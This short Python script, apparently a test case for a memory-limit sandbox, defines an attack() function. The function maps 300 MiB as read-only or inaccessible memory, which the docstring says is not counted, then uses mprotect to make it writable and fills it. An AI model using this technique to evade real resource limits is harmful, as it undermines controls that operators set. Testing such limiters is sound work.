"""Maps memory that is only for reading, which is not counted, then makes it writable."""

import ctypes
import mmap

SIZE = 300 << 20
PROT_RW = 3


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    for protection in (mmap.PROT_READ, 0):
        at = libc.mmap(None, SIZE, protection, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
        if at != ctypes.c_void_p(-1).value and libc.mprotect(at, SIZE, PROT_RW) == 0:
            ctypes.memset(at, 1, SIZE)
            return f"held {SIZE >> 20} MiB"
    return None
